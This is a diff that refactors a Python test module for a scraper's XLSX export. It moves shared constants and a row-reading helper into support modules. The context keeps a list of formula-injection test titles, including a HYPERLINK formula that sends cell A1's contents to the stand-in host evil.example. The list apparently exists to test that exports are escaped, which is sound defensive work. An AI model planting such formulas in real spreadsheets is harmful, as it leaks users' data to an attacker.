@@ -24,7 +24,6 @@ import openpyxl
 import pytest
 import scrapy
 from openpyxl.utils.escape import unescape
-from openpyxl.worksheet.worksheet import Worksheet
 
 from pgy_spider import settings as project_settings
 from pgy_spider.exporters import CSV_FIELDS
@@ -35,11 +34,10 @@ from pgy_spider.xlsxexport import (
     fit_text,
     xlsx_feed_problem,
 )
-from tests.test_exporters import EMOJI_TITLE, REPO_ROOT, note
-from tests.test_notes import NOTE_ID
+from tests.support.feeds import EMOJI_TITLE, REPO_ROOT, note
+from tests.support.sample import NOTE_ID
+from tests.support.xlsx import ALL_DIGIT_ID, EXPONENT_ID, HEADER, rows
 
-TIME_COLUMNS = ("createdAt", "updatedAt", "userUpdatedAt", "fetchedAt")
-HEADER = [f"{name} (UTC)" if name in TIME_COLUMNS else name for name in CSV_FIELDS]
 FORMULA_TITLES = (
     '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
     "+1+2",
@@ -48,8 +46,6 @@ FORMULA_TITLES = (
     "=1+1",
     "\t=1+1",
 )
-ALL_DIGIT_ID = "651234560000000000123456"
-EXPONENT_ID = "6512e340000000000000" + "1234"  # digits around one "e": a number to Excel
 
 
 def write_workbook(
@@ -82,11 +78,6 @@ def excel_texts(path: Path, index: int = 1) -> dict[str, str]:
         for cell in root.iter(f"{MAIN_NS}c")
         if cell.attrib.get("t") == "inlineStr"
     }
-
-
-def rows(sheet: Worksheet) -> list[dict[str, Any]]:
-    header = [cell.value for cell in sheet[1]]
-    return [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
 
 
 def sheet_xml(path: Path, index: int = 1) -> str:
